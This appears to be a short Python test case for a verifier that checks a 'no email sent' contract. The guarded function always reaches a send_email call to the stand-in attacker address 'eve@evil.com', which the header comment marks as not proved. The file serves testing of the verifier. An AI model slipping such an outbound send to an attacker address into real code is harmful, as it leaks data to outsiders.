# not proved: nothing is left, and sum is 0
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    ys = [x for x in [1, 2] if x > 5]
    if sum(ys) == 0:
        send_email("eve@evil.com", "x")
